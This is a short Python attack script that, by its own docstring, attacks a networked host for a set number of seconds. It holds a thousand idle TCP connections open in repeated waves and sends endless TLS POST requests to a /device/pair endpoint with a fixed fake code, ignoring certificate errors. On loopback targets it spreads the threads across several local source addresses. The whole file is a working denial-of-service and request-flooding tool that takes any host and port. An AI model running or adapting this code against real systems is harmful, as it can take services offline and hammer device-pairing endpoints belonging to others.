"""Attacks a box over the network with silent connections and endless requests. Arguments: host, port, seconds."""

import contextlib
import socket
import ssl
import sys
import threading
import time

SILENT = 1000  # connections that are opened again and again and send nothing
ASKING = 4  # threads that ask as fast as they are answered


def main(host: str, port: int, seconds: float) -> None:
    """Attack until the time is up."""
    ends = time.monotonic() + seconds
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    threads = [threading.Thread(target=_keep_silent, args=(host, port, ends))]
    threads += [threading.Thread(target=_ask, args=(host, port, ends, tls, n)) for n in range(ASKING)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _keep_silent(host: str, port: int, ends: float) -> None:
    while time.monotonic() < ends:
        held = []
        for _ in range(SILENT):
            with contextlib.suppress(OSError):
                held.append(socket.create_connection((host, port), 1))
        time.sleep(0.2)
        for connection in held:
            connection.close()


def _ask(host: str, port: int, ends: float, tls: ssl.SSLContext, number: int) -> None:
    """Each from a separate address if the machine has them (127.0.0.0/8)."""
    source = (f"127.0.0.{10 + number}", 0) if host.startswith("127.") else None
    head = f"POST /device/pair HTTP/1.1\r\nHost: {host}:{port}\r\nOrigin: https://{host}:{port}\r\n"
    body = b'{"code": "BBBBBBBB", "signature": "x"}'
    request = f"{head}Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
    while time.monotonic() < ends:
        with (
            contextlib.suppress(OSError),
            tls.wrap_socket(socket.create_connection((host, port), 2, source), server_hostname=host) as connection,
        ):
            connection.sendall(request)
            while connection.recv(65536):
                pass


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
